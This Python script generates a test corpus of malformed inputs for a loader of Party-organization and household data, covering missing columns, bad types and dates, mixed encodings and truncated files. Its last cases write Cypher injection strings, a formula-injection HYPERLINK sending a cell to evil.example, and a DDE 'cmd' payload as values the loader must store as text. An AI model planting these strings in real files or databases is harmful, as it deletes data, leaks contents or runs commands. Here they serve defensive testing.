"""Write the bad-input corpus ``tests/data/bad/`` from the 东风 fixture, deterministically.

Each case is a folder holding ``case.json`` and only the files that differ from the
fixture ``tests/fixtures/dongfeng``; ``tests/test_bad_input_corpus.py`` copies the
fixture, lays the case's files over it (or builds a workbook from it) and checks that
the problem is reported — file, row, column, value, in Chinese and English — that
``partygraph load`` exits with 2 and that the graph is unchanged.  A few cases are
valid input that must load harmlessly (injection text, an unknown column, a header-only
file).  See ``tests/data/bad/README.md`` for the format of ``case.json``.

Run from the repository root (the output is committed)::

    .venv/bin/python tools/make_bad_corpus.py
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from loaders.input_files import input_file  # noqa: E402 - after the path is set
FIXTURE = ROOT / "tests" / "fixtures" / "dongfeng"
OUT = ROOT / "tests" / "data" / "bad"
WORKBOOK = "input.xlsx"  # name of the workbook the test builds for workbook cases


class Table:
    """One fixture file as rows of cells, edited in place and written back as CSV text."""

    def __init__(self, name: str) -> None:
        self.name = name
        text = (FIXTURE / f"{name}.csv").read_text(encoding="utf-8")
        self.rows = list(csv.reader(io.StringIO(text, newline="")))

    @property
    def header(self) -> list[str]:
        return self.rows[0]

    def row_of(self, **match: str) -> int:
        """Spreadsheet row number (header = 1) of the first row whose cells match."""
        for index, row in enumerate(self.rows[1:], start=2):
            cells = dict(zip(self.header, row))
            if all(cells.get(k) == v for k, v in match.items()):
                return index
        raise KeyError(f"{self.name}: no row with {match}")

    def set(self, row: int, column: str, value: str) -> int:
        self.rows[row - 1][self.header.index(column)] = value
        return row

    def add(self, cells: dict[str, str]) -> int:
        self.rows.append([cells.get(column, "") for column in self.header])
        return len(self.rows)

    def text(self) -> str:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows(self.rows)
        return buffer.getvalue()

    def bytes(self, encoding: str = "utf-8") -> bytes:
        return self.text().encode(encoding)


@dataclass
class Case:
    """One corpus case: what is broken, the files that differ and what must be reported."""

    name: str
    kind: str  # the class of problem
    description: str
    files: dict[str, bytes] = field(default_factory=dict)
    errors: list[dict] = field(default_factory=list)
    warnings: list[dict] = field(default_factory=list)
    exit: int = 2
    input: str = "folder"
    delete: list[str] = field(default_factory=list)
    big_cells: list[dict] = field(default_factory=list)
    workbook: dict = field(default_factory=dict)
    literal: list[dict] = field(default_factory=list)
    raw_input: bytes | None = None  # the whole input is this file (a broken workbook)

    def spec(self) -> dict:
        spec = {
            "name": self.name, "class": self.kind, "description": self.description, "input": self.input,
            "files": sorted(self.files), "delete": self.delete,
            "expect": {"exit": self.exit, "errors": self.errors, "warnings": self.warnings},
        }
        if self.big_cells:
            spec["big_cells"] = self.big_cells
        if self.workbook:
            spec["workbook"] = self.workbook
        if self.literal:
            spec["expect"]["literal"] = self.literal
        if self.raw_input is not None:
            spec["raw_input"] = WORKBOOK
        return spec


def problem(file: str, row: int, column: str, value: str | None = None) -> dict:
    found = {"file": file, "row": row, "column": column}
    if value is not None:
        found["value"] = value
    return found


def edit(case_name: str, kind: str, description: str, file: str, match: dict, column: str, value: str,
         expected_value: str | None = "same", encoding: str = "utf-8", report_column: str | None = None) -> Case:
    """A case that changes one cell of one file; the problem is expected at that cell."""
    table = Table(file)
    row = table.set(table.row_of(**match), column, value)
    shown = value if expected_value == "same" else expected_value
    return Case(case_name, kind, description, files={f"{file}.csv": table.bytes(encoding)},
                errors=[problem(f"{file}.csv", row, report_column or column, shown)])


def cases() -> list[Case]:
    found: list[Case] = []
    add = found.append

    # --- columns --------------------------------------------------------------------
    grids = Table("grids")
    grids.rows = [[r[0], r[2]] for r in grids.rows]  # drop the name column
    add(Case("missing_required_column", "missing required column",
             "grids.csv has no name column / 网格名册缺少名称列",
             files={"grids.csv": grids.bytes()}, errors=[problem("grids.csv", 1, "name")]))
    members = Table("members")
    members.rows = [r[:7] + r[8:] for r in members.rows]  # drop status (required)
    add(Case("missing_required_column_gbk", "missing required column",
             "members.csv, saved as GBK, has no status column / GBK编码的党员名册缺少党员身份列",
             files={"members.csv": members.bytes("gbk")}, errors=[problem("members.csv", 1, "status")]))
    compounds = Table("compounds")
    compounds.rows = [r + ["颜色" if i == 0 else "红"] for i, r in enumerate(compounds.rows)]
    add(Case("unknown_column_is_a_warning", "unknown column (warning only)",
             "compounds.csv has an extra column 颜色: reported as a warning, the rest loads",
             files={"compounds.csv": compounds.bytes()}, exit=0,
             warnings=[problem("compounds.csv", 1, "颜色")]))
    leaders = Table("leaders")
    leaders.rows = [r + (["姓名"] if i == 0 else [r[1]]) for i, r in enumerate(leaders.rows)]
    add(Case("duplicate_column", "the same column twice",
             "leaders.csv has name and 姓名, the same column twice / 同一列出现两次",
             files={"leaders.csv": leaders.bytes()}, errors=[problem("leaders.csv", 1, "姓名")]))

    # --- empty required values --------------------------------------------------------
    add(edit("empty_required_name", "empty required value", "compound CP05 has no name / 小区名称为空",
             "compounds", {"id": "CP05"}, "name", "", ""))
    add(edit("empty_required_reference_gbk", "empty required value",
             "a GBK compounds.csv row has no grid_id / GBK编码文件中所属网格编号为空",
             "compounds", {"id": "CP07"}, "grid_id", "", "", encoding="gbk"))
    add(edit("empty_required_date", "empty required value", "a coverage row has no since / 起始日期为空",
             "coverage", {"org_id": "O_B4", "territory_id": "CP06"}, "since", "", ""))
    add(edit("blank_is_empty", "empty required value", "a member's kind is only spaces / 党员类别只有空格",
             "members", {"id": "M07"}, "kind", "   ", ""))

    # --- wrong types ------------------------------------------------------------------
    add(edit("int_as_chinese_numeral", "wrong type: int", "floors written as 七 / 层数写成汉字",
             "buildings", {"id": "B011"}, "floors", "七"))
    add(edit("int_with_fraction", "wrong type: int", "2.5 residents / 人口数不是整数",
             "households", {"id": "H0112"}, "residents", "2.5"))
    add(edit("float_as_text", "wrong type: float", "area 五百 / 面积不是数字",
             "service_centres", {"id": "SC2"}, "area_m2", "五百"))
    add(edit("float_not_finite", "wrong type: float", "amount NaN / 金额不是有限数字",
             "funds", {"id": "F1"}, "amount_cny", "NaN"))
    add(edit("bool_not_yes_no", "wrong type: bool", "no_property 也许 / 是否无物业填写“也许”",
             "compounds", {"id": "CP01"}, "no_property", "也许"))
    add(edit("date_as_text", "wrong type: date", "birth date 不详 / 出生日期写成“不详”",
             "members", {"id": "M03"}, "birth_date", "不详"))
    add(edit("date_in_gbk_file", "wrong type: date", "a GBK members.csv with joined_on 1990年 / GBK文件中的日期不完整",
             "members", {"id": "M05"}, "joined_on", "1990年", encoding="gbk"))

    # --- bad dates and absurd numbers -------------------------------------------------
    add(edit("date_does_not_exist", "bad date", "2020-02-30 / 不存在的日期",
             "memberships", {"member_id": "M01"}, "since", "2020-02-30"))
    add(edit("date_out_of_range", "bad date", "joined the party in 1850 / 日期超出1900–2100年",
             "members", {"id": "M02"}, "joined_on", "1850-07-01"))
    add(edit("absurd_residents", "out-of-range number", "2000 residents in one household / 一户2000人",
             "households", {"id": "H0111"}, "residents", "2000"))
    add(edit("negative_area", "out-of-range number", "a centre of -450 m² / 面积为负数",
             "service_centres", {"id": "SC3"}, "area_m2", "-450"))
    add(edit("absurd_floors", "out-of-range number", "a building of 900 floors / 900层的楼",
             "buildings", {"id": "B021"}, "floors", "900"))
    add(edit("year_out_of_range", "out-of-range number", "fund year 1990 / 经费年度早于2000",
             "funds", {"id": "F2"}, "year", "1990"))

    # --- coded values -----------------------------------------------------------------
    add(edit("bad_choice", "bad choice", "member kind 红色党员 / 不存在的党员类别",
             "members", {"id": "M15"}, "kind", "红色党员"))
    add(edit("bad_choice_in_list", "bad choice", "a service 洗车 that is not one of the five / 五有服务中的未知项",
             "compounds", {"id": "CP02"}, "services", "卫生保洁;洗车"))
    add(edit("bad_choice_org_kind", "bad choice", "organization kind 党总支 / 不存在的组织类型",
             "organizations", {"id": "O_B5"}, "kind", "党总支"))

    # --- ids --------------------------------------------------------------------------
    add(edit("duplicate_id", "duplicate id", "two buildings B011 / 楼栋编号重复",
             "buildings", {"id": "B012"}, "id", "B011"))
    memberships = Table("memberships")
    row = memberships.add({"member_id": "M03", "org_id": "O_B1", "since": "2020-03-01"})
    add(Case("duplicate_row_key", "duplicate row key", "the same membership twice / 同一组织关系填了两次",
             files={"memberships.csv": memberships.bytes()},
             errors=[problem("memberships.csv", row, "member_id", "M03/O_B1/2020-03-01")]))
    leaders = Table("leaders")
    row = leaders.set(leaders.row_of(id="L2"), "id", "M01")
    add(Case("same_id_in_two_files", "the same id in two files",
             "leader L2 renamed M01, already a member id / 领导编号与党员编号相同",
             files={"leaders.csv": leaders.bytes()}, errors=[problem("leaders.csv", row, "id", "M01")]))
    add(edit("id_with_space", "id with spaces", "leader id 'L 3' / 编号含空格",
             "leaders", {"id": "L2"}, "id", "L 2"))
    add(edit("id_full_width", "id with full-width characters", "compound id ＣＰ０１ in full-width letters / 全角编号",
             "compounds", {"id": "CP01"}, "id", "ＣＰ０１"))
    add(edit("reference_full_width", "id with full-width characters",
             "a household refers to building Ｂ０１１ / 引用的编号是全角",
             "households", {"id": "H0113"}, "building_id", "Ｂ０１１"))
    add(edit("id_with_ideographic_space", "id with full-width characters",
             "member id with a full-width space inside / 编号中间有全角空格",
             "members", {"id": "M06"}, "id", "M\u300006"))

    # --- references -------------------------------------------------------------------
    add(edit("missing_reference", "reference to a missing id", "household refers to building B999 / 引用不存在的楼栋",
             "households", {"id": "H0911"}, "building_id", "B999"))
    add(edit("missing_reference_in_list", "reference to a missing id",
             "a joint meeting lists organization O_NOPE / 参会党组织不存在",
             "joint_meetings", {"id": "JM2"}, "attendee_ids", "O_CM1;O_NOPE", "O_NOPE"))
    add(edit("reference_to_wrong_kind", "reference to a missing id",
             "coverage of M01, a member, not a territory / 覆盖对象是党员而不是区域",
             "coverage", {"org_id": "O_B1"}, "territory_id", "M01"))
    add(edit("missing_parent_organization", "reference to a missing id",
             "an organization's parent O_X does not exist / 上级党组织不存在",
             "organizations", {"id": "O_B4"}, "parent_id", "O_X"))

    # --- the organization tree, memberships, time ----------------------------------------
    add(edit("organization_cycle", "org cycle", "the city committee under a building group: a cycle / 上下级成环",
             "organizations", {"id": "O_CITY"}, "parent_id", "O_G11", None))
    add(edit("organization_own_parent", "org cycle", "O_D1 is its own parent / 自己是自己的上级",
             "organizations", {"id": "O_D1"}, "parent_id", "O_D1", None))
    memberships = Table("memberships")
    row = memberships.add({"member_id": "M02", "org_id": "O_B2", "since": "2021-04-01"})
    add(Case("member_in_two_organizations", "member in two organizations",
             "M02 joins O_B2 without ending O_B1 / 党员同时属于两个党组织",
             files={"memberships.csv": memberships.bytes()},
             errors=[problem("memberships.csv", row, "org_id", "M02: O_B1, O_B2")]))
    add(edit("until_before_since", "until before since", "coverage ends before it starts / 终止日期早于起始日期",
             "coverage", {"org_id": "O_B3"}, "until", "2020-01-01"))
    add(edit("ends_before_starts", "until before since", "contract ends before it starts / 契约到期早于生效",
             "contracts", {"id": "K2"}, "ends_on", "2020-06-30"))
    add(edit("evaluated_before_done", "until before since", "demand evaluated before it was done / 评价早于办结",
             "demands", {"id": "DM1"}, "evaluated_on", "2021-03-05"))

    # --- encodings and broken files ---------------------------------------------------
    members = Table("members")
    lines = members.text().splitlines(keepends=True)
    row = members.row_of(id="M09")
    mixed = b"".join(line.encode("gbk" if number == row else "utf-8") for number, line in enumerate(lines, start=1))
    add(Case("gbk_row_in_utf8_file", "mixed encodings",
             "one GBK row pasted into a UTF-8 members.csv / UTF-8文件中混入一行GBK",
             files={"members.csv": mixed}, errors=[problem("members.csv", row, "")]))
    members = Table("members")
    lines = members.text().splitlines(keepends=True)
    row = members.row_of(id="M12")
    mixed = b"".join(line.encode("utf-8" if number == row else "gbk") for number, line in enumerate(lines, start=1))
    add(Case("utf8_row_in_gbk_file", "mixed encodings",
             "one UTF-8 row pasted into a GBK members.csv / GBK文件中混入一行UTF-8",
             files={"members.csv": mixed}, errors=[problem("members.csv", row, "")]))
    add(Case("not_text", "mixed encodings", "leaders.csv holds bytes that are neither UTF-8 nor GBK / 乱码文件",
             files={"leaders.csv": "id,name,level,post\n".encode() + bytes([0x4C, 0x33, 0x2C, 0xFF, 0xFE, 0x80,
                                                                           0x2C, 0x0A])},
             errors=[problem("leaders.csv", 2, "")]))
    households = Table("households")
    text = households.text()
    cut = text[: text.index("H0911,") + len("H0911,1栋1")]
    add(Case("truncated_mid_row", "truncated file", "households.csv cut in the middle of its last row / 文件在行中间被截断",
             files={"households.csv": cut.encode()},
             errors=[problem("households.csv", households.row_of(id="H0911"), "building_id", "")]))
    members = Table("members")
    data = members.bytes()
    last = members.rows[-1]
    start = data.rindex(last[1].encode())
    add(Case("truncated_mid_character", "truncated file",
             "members.csv cut inside the last member's name, mid UTF-8 character / 文件在汉字中间被截断",
             files={"members.csv": data[: start + 1]}, errors=[problem("members.csv", len(members.rows), "")]))
    leaders = Table("leaders")
    text = leaders.text().rstrip("\n") + '\nL3,"黄海,市级,\n'
    add(Case("truncated_in_quotes", "truncated file", "a quote opened and never closed / 引号没有闭合",
             files={"leaders.csv": text.encode()}, errors=[problem("leaders.csv", 4, "")]))
    add(Case("empty_file", "empty file", "leaders.csv is 0 bytes: no header / 空文件(没有表头)",
             files={"leaders.csv": b""}, errors=[problem("leaders.csv", 0, "")]))
    add(Case("header_only_loads_nothing", "header only (valid)",
             "leaders.csv and leader_assignments.csv hold only their header: they load nothing, "
             "and that is not an error / 只有表头的文件不导入任何数据,不是错误",
             files={"leaders.csv": b"id,name,level,post\n",
                    "leader_assignments.csv": (",".join(c.zh for c in input_file("leader_assignments").columns)
                                               + "\n").encode("gbk")},
             exit=0))
    headers_only = {path.name: path.read_bytes().split(b"\n", 1)[0] + b"\n" for path in sorted(FIXTURE.glob("*.csv"))}
    add(Case("every_file_empty", "empty data set",
             "every file holds only its header: nothing to load is reported / 每个文件都只有表头",
             files=headers_only, errors=[problem("dataset", 0, "")]))
    add(Case("no_input_files", "empty data set", "a folder with no recognised file / 文件夹中没有可识别的文件",
             files={"名单.csv": "id,name\n1,张三\n".encode()}, delete=["*"],
             errors=[problem("dataset", 0, "")], warnings=[problem("名单.csv", 0, "")]))
    add(Case("row_longer_than_header", "extra values", "a row with more values than the header / 该行的值多于表头",
             files={"cities.csv": "id,name\nC1,梧州市,多余,值\n".encode()},
             errors=[problem("cities.csv", 2, "")]))

    # --- a 10 MB cell -----------------------------------------------------------------
    add(Case("ten_megabyte_cell", "huge cell", "a compound address of 10 MB / 10 MB的地址单元格",
             big_cells=[{"file": "compounds.csv", "row": Table("compounds").row_of(id="CP03"), "column": "address",
                         "text": "长", "repeat": 10 * 1024 * 1024 // 3}],
             errors=[problem("compounds.csv", Table("compounds").row_of(id="CP03"), "address")]))

    # --- workbooks --------------------------------------------------------------------
    add(Case("workbook_merged_header", "merged header cells",
             "the members sheet has its first two header cells merged / 表头合并单元格",
             input="workbook", workbook={"merge": [{"sheet": "members", "range": "A1:B1"}]},
             errors=[problem(f"{WORKBOOK}!members", 1, "", "A1:B1")]))
    add(Case("workbook_formula", "formula", "a formula in a building's floors / 层数单元格是公式",
             input="workbook", workbook={"formulas": [{"sheet": "buildings", "cell": "C2", "formula": "=3+4"}]},
             errors=[problem(f"{WORKBOOK}!buildings", 2, "C", "=3+4")]))
    add(Case("workbook_bool_in_number", "wrong type: int", "a TRUE cell as a building's floors / 层数单元格是TRUE",
             input="workbook", workbook={"values": [{"sheet": "buildings", "cell": "C3", "value": True}]},
             errors=[problem(f"{WORKBOOK}!buildings", 3, "floors", "True")]))
    compounds = Table("compounds")
    compounds.set(compounds.row_of(id="CP05"), "name", "")
    add(Case("workbook_empty_required", "empty required value", "a compound without a name, in a workbook",
             input="workbook", files={"compounds.csv": compounds.bytes()},
             errors=[problem(f"{WORKBOOK}!compounds", compounds.row_of(id="CP05"), "name", "")]))
    households = Table("households")
    row = households.set(households.row_of(id="H0911"), "building_id", "B999")
    add(Case("workbook_missing_reference", "reference to a missing id", "a household of building B999, in a workbook",
             input="workbook", files={"households.csv": households.bytes()},
             errors=[problem(f"{WORKBOOK}!households", row, "building_id", "B999")]))
    organizations = Table("organizations")
    row = organizations.set(organizations.row_of(id="O_CITY"), "parent_id", "O_B1")
    add(Case("workbook_organization_cycle", "org cycle", "a cycle of parents, in a workbook",
             input="workbook", files={"organizations.csv": organizations.bytes()},
             errors=[problem(f"{WORKBOOK}!organizations", row, "parent_id")]))
    add(Case("workbook_not_a_workbook", "corrupt workbook", "an .xlsx that is not a zip file / 损坏的工作簿",
             input="workbook", raw_input=b"PK\x03\x04 this is not really a workbook",
             errors=[problem(WORKBOOK, 0, "")]))

    # --- injection text: valid input, stored as plain text ----------------------------
    compounds = Table("compounds")
    members = Table("members")
    organizations = Table("organizations")
    cypher = "'}) DETACH DELETE n //"
    cypher2 = '"}) MATCH (n) DETACH DELETE n RETURN 1 //'
    cypher3 = "`) CALL db.clear() //"  # backticks, a procedure name
    compounds.set(compounds.row_of(id="CP01"), "name", cypher)
    compounds.set(compounds.row_of(id="CP02"), "address", "$rows} ]) DELETE n //\\u0027")
    members.set(members.row_of(id="M01"), "name", cypher2)
    organizations.set(organizations.row_of(id="O_B1"), "name", cypher3)
    add(Case("cypher_injection_names", "Cypher injection text (valid)",
             "names that look like Cypher load as plain names, and delete nothing / 形似Cypher的名称按原文保存",
             files={"compounds.csv": compounds.bytes(), "members.csv": members.bytes(),
                    "organizations.csv": organizations.bytes()}, exit=0,
             literal=[{"label": "Compound", "id": "CP01", "property": "name", "value": cypher},
                      {"label": "Compound", "id": "CP02", "property": "address",
                       "value": "$rows} ]) DELETE n //\\u0027"},
                      {"label": "Member", "id": "M01", "property": "name", "value": cypher2},
                      {"label": "Organization", "id": "O_B1", "property": "name", "value": cypher3}]))
    compounds = Table("compounds")
    members = Table("members")
    hyperlink = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
    compounds.set(compounds.row_of(id="CP03"), "name", hyperlink)
    compounds.set(compounds.row_of(id="CP04"), "address", "@SUM(1+1)*cmd|' /C calc'!A0")
    members.set(members.row_of(id="M02"), "name", "+李芳")
    members.set(members.row_of(id="M03"), "phone", "-1+13800000003")
    add(Case("formula_injection_text", "formula injection text (valid)",
             "cells starting with = + - @ load as text, never run / 以=+-@开头的文本按原文保存",
             files={"compounds.csv": compounds.bytes(), "members.csv": members.bytes()}, exit=0,
             literal=[{"label": "Compound", "id": "CP03", "property": "name", "value": hyperlink},
                      {"label": "Compound", "id": "CP04", "property": "address",
                       "value": "@SUM(1+1)*cmd|' /C calc'!A0"},
                      {"label": "Member", "id": "M02", "property": "name", "value": "+李芳"},
                      {"label": "Member", "id": "M03", "property": "phone", "value": "-1+13800000003"}]))
    add(Case("workbook_formula_text", "formula injection text (valid)",
             "a text cell (not a formula) holding =HYPERLINK(…) in a workbook loads as text",
             input="workbook", exit=0,
             workbook={"text_cells": [{"sheet": "compounds", "cell": "B4", "text": hyperlink}]},
             literal=[{"label": "Compound", "id": "CP03", "property": "name", "value": hyperlink}]))
    return found


README = """# The bad-input corpus

Written by `tools/make_bad_corpus.py` from the 东风 fixture (`tests/fixtures/dongfeng`) and
checked by `tests/test_bad_input_corpus.py`.  Each folder is one case: `case.json` and only
the files that differ from the fixture.

`case.json`:

| key | meaning |
|---|---|
| `name`, `class`, `description` | the case, the class of problem it belongs to, what is broken |
| `input` | `folder`: the fixture's CSV files with the case's files laid over them; `workbook`: the same, then made into one `input.xlsx` (a sheet per file, every cell text) |
| `files` | the files stored in the case folder (copied over the fixture's) |
| `delete` | fixture files not copied (`*`: none of them) |
| `big_cells` | cells filled at test time (`text` × `repeat`), to keep the repository small |
| `workbook` | workbook edits: `merge` ranges, `formulas`, typed `values`, `text_cells` (text, even when it starts with `=`) |
| `raw_input` | the whole input is the stored file of that name (a broken workbook) |
| `expect.exit` | exit code of `partygraph load`: 2 bad input, 0 loads |
| `expect.errors` / `expect.warnings` | problems that must be reported: `file`, `row` (header = 1, 0 = the whole file), `column` (as written in the header; `""` for the whole row or file) and, where given, `value`; `file` `dataset` is the input folder itself |
| `expect.literal` | for valid cases: properties that must read back exactly as written |

Decisions the corpus pins down:

- A file with a header and no rows loads nothing and is not an error (`header_only_loads_nothing`);
  a data set in which *every* file is like that is reported, since it would load nothing at all
  (`every_file_empty`).  A 0-byte file has no header and is an error (`empty_file`).
- An unknown column is a warning and the file still loads (`unknown_column_is_a_warning`).
- Text that looks like Cypher or a spreadsheet formula is data: loaders pass every value as a
  parameter, so it is stored literally and runs nowhere (`cypher_injection_names`,
  `formula_injection_text`, `workbook_formula_text`).  A real formula cell in a workbook is an
  error, because its value is not in the file (`workbook_formula`).
- A file that mixes UTF-8 and GBK lines, or was cut in the middle of a character, is reported with
  the odd line; it is not decoded as GB18030 into garbled names (`gbk_row_in_utf8_file`,
  `utf8_row_in_gbk_file`, `truncated_mid_character`).
"""


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    (OUT / "README.md").write_text(README, encoding="utf-8")
    all_cases = cases()
    names = [case.name for case in all_cases]
    assert len(names) == len(set(names)), "case names must be unique"
    for number, case in enumerate(all_cases, start=1):
        folder = OUT / f"{number:02d}_{case.name}"
        folder.mkdir()
        for name, data in case.files.items():
            (folder / name).write_bytes(data)
        if case.raw_input is not None:
            (folder / WORKBOOK).write_bytes(case.raw_input)
        (folder / "case.json").write_text(json.dumps(case.spec(), ensure_ascii=False, indent=2) + "\n",
                                          encoding="utf-8")
    print(f"wrote {len(all_cases)} cases to {OUT.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
